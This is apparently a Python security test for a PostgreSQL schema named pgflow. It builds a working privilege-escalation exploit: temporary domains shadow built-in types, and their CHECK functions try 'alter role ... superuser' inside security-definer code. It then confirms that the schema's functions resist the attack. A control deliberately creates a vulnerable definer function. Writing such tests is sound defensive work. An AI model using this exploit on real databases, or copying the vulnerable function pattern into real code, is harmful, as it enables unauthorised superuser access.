"""Attack (a): temporary domains that shadow built-in types inside definer code.

With only the default TEMP privilege a caller can ``create domain
pg_temp.timestamptz as pg_catalog.timestamptz check (pg_temp.evil(value))``.
A function whose search path does not put pg_catalog before pg_temp resolves
``timestamptz`` in its body to that domain, and the CHECK runs as the
function's owner. Here every such type name is shadowed, then every entry
point the role may execute is called; ``evil`` reports (a NOTICE) when it
runs as anyone but the attacker and tries ``alter role <attacker> superuser``.

A control proves the machinery works: the same attack on a deliberately
vulnerable definer function (``search_path = ''``, outside schema pgflow)
must fire. A static check completes it: every function in schema pgflow
pins ``search_path`` to ``pg_catalog, pg_temp``.
"""

from __future__ import annotations

import re
import secrets
import time

from psycopg import sql
from tests.chaos.attacks.context import Attack, attempt
from tests.chaos.attacks.entry_calls import Call, client_calls, other_calls, worker_calls
from tests.chaos.harness.db import Conn, connect, scalar
from tests.chaos.harness.figures import Figures

__all__ = ["run"]

# name the attacker shadows -> the built-in type it stands for
FIXED_TYPES = {
    "timestamptz": "timestamptz",
    "timestamp": "timestamp",
    "jsonb": "jsonb",
    "json": "json",
    "uuid": "uuid",
    "text": "text",
    "varchar": "varchar",
    "name": "name",
    "int2": "int2",
    "int4": "int4",
    "int8": "int8",
    "smallint": "int2",
    "integer": "int4",
    "bigint": "int8",
    "bool": "bool",
    "boolean": "bool",
    "numeric": "numeric",
    "interval": "interval",
    "float8": "float8",
    "oid": "oid",
    "bytea": "bytea",
}

USED_TYPES = """
select distinct t.typname
from pg_catalog.pg_type as t
where t.typtype = 'b' and t.typcategory <> 'A' and t.typnamespace = 'pg_catalog'::regnamespace
    and t.oid in (
        select a.atttypid from pg_catalog.pg_attribute as a
        join pg_catalog.pg_class as c on c.oid = a.attrelid
        where c.relnamespace = 'pgflow'::regnamespace and a.attnum > 0
        union
        select unnest(p.proargtypes || p.prorettype) from pg_catalog.pg_proc as p
        where p.pronamespace = 'pgflow'::regnamespace
    )
"""

EVIDENCE = "chaos-evil ran as"
PINNED = re.compile(r"^search_path=\"?pg_catalog\"?\s*,\s*\"?pg_temp\"?$")


def shadow_types(conn: Conn, attacker: str, types: dict[str, str]) -> None:
    """Create ``pg_temp.evil_*`` and a shadowing domain for each type name."""
    for index, (name, base) in enumerate(sorted(types.items())):
        evil = sql.Identifier(f"evil_{index}")
        conn.execute(
            sql.SQL(
                "create function pg_temp.{evil}(v pg_catalog.{base}) returns pg_catalog.bool"
                " language plpgsql as $evil$"
                " begin"
                "   if current_user <> {attacker} then"
                "     raise notice '{evidence} % (type {name})', current_user;"
                "     begin"
                "       execute {alter};"
                "     exception when others then null;"
                "     end;"
                "   end if;"
                "   return true;"
                " end $evil$"
            ).format(
                evil=evil,
                base=sql.Identifier(base),
                attacker=sql.Literal(attacker),
                evidence=sql.SQL(EVIDENCE),
                name=sql.SQL(name),
                alter=sql.Literal(f'alter role "{attacker}" superuser'),
            )
        )
        conn.execute(
            sql.SQL(
                "create domain pg_temp.{name} as pg_catalog.{base} check (pg_temp.{evil}(value))"
            ).format(name=sql.Identifier(name), base=sql.Identifier(base), evil=evil)
        )


def attack(url: str, attacker: str, types: dict[str, str], calls: list[Call]) -> list[str]:
    """Shadow the types in a session of ``attacker``, make the calls; returns the evidence."""
    evidence: list[str] = []
    with connect(url, application_name="chaos-temp-domain") as conn:
        conn.add_notice_handler(
            lambda notice: (
                evidence.append(notice.message_primary or "")
                if EVIDENCE in (notice.message_primary or "")
                else None
            )
        )
        shadow_types(conn, attacker, types)
        for name, make_call in calls:
            before = len(evidence)
            try:
                make_call(conn)
            except Exception as error:  # errors are fine: the calls only need to run
                if conn.broken:
                    evidence.append(f"{name} broke the connection: {error}")
                    break
            evidence[before:] = [f"{e} (via {name})" for e in evidence[before:]]
    return evidence


def is_superuser(admin: Conn, role: str) -> bool:
    row = admin.execute("select rolsuper from pg_catalog.pg_roles where rolname = %s", (role,))
    found = row.fetchone()
    return bool(found and found[0])


def control(ctx: Attack, types: dict[str, str], figures: Figures) -> None:
    """The same attack on a vulnerable definer function must work, or (a) proves nothing."""
    role = f"chaos_control_{secrets.token_hex(3)}"
    ctx.admin.execute(sql.SQL("create role {} login").format(sql.Identifier(role)))
    ctx.admin.execute(
        "create function public.chaos_vulnerable() returns void language plpgsql"
        " security definer set search_path = '' as"
        " $$ declare v timestamptz := pg_catalog.now(); begin end $$"
    )
    ctx.admin.execute(
        sql.SQL("grant execute on function public.chaos_vulnerable() to {}").format(
            sql.Identifier(role)
        )
    )
    try:
        evidence = attack(
            ctx.roles.url(ctx.url, role),
            role,
            types,
            [("chaos_vulnerable", lambda c: c.execute("select public.chaos_vulnerable()"))],
        )
        figures.check(
            bool(evidence) and is_superuser(ctx.admin, role),
            "control: the temp-domain attack did not fire on a vulnerable function, "
            "so the attack proves nothing (is the suite's attack still right?)",
        )
    finally:
        ctx.admin.execute("drop function public.chaos_vulnerable()")
        drop_role(ctx.admin, role)


def drop_role(admin: Conn, role: str) -> None:
    """Drop a role once its sessions are gone (their temporary objects go with them)."""
    deadline = time.monotonic() + 10
    while scalar(admin, "select count(*) from pg_stat_activity where usename = %s", (role,)):
        if time.monotonic() > deadline:
            break
        time.sleep(0.05)
    admin.execute(sql.SQL("drop owned by {}").format(sql.Identifier(role)))
    admin.execute(sql.SQL("drop role {}").format(sql.Identifier(role)))


def check_search_paths(ctx: Attack, figures: Figures) -> None:
    rows = ctx.admin.execute(
        "select p.oid::regprocedure::text, coalesce(p.proconfig, '{}')"
        " from pg_catalog.pg_proc as p where p.pronamespace = 'pgflow'::regnamespace"
    ).fetchall()
    for signature, config in rows:
        paths = [c for c in config if c.startswith("search_path=")]
        figures.check(
            len(paths) == 1 and PINNED.match(paths[0]) is not None,
            f"{signature} does not pin search_path to pg_catalog, pg_temp: {paths or 'unset'}",
        )


def run(ctx: Attack, figures: Figures) -> None:
    types = dict(FIXED_TYPES)
    types.update({name: name for (name,) in ctx.admin.execute(USED_TYPES).fetchall()})
    figures.note(f"temp-domain attack shadows {len(types)} type names: {', '.join(sorted(types))}")
    check_search_paths(ctx, figures)
    control(ctx, types, figures)
    flow = ctx.flow()
    with ctx.connect_as(ctx.roles.client) as client:
        for _ in range(4):
            ctx.start(client, flow)
    plans = {
        ctx.roles.worker: worker_calls(flow),
        ctx.roles.client: client_calls(flow),
    }
    for role, calls in plans.items():
        covered = {name.split(" ")[0] for name, _ in calls}
        calls = calls + other_calls(ctx.admin, role, covered)
        evidence = attack(ctx.roles.url(ctx.url, role), role, types, calls)
        figures.faults += len(calls)
        figures.tasks_checked += len(calls)
        for line in dict.fromkeys(evidence):  # each distinct finding once, in order
            figures.check(False, f"temp-domain attack as {role}: {line}")
        figures.check(
            not is_superuser(ctx.admin, role),
            f"temp-domain attack: {role} became superuser",
        )
        _, error = attempt(ctx.admin, "select 1")  # the owner's session is unharmed
        figures.check(error is None, f"owner session broken after the attack: {error}")
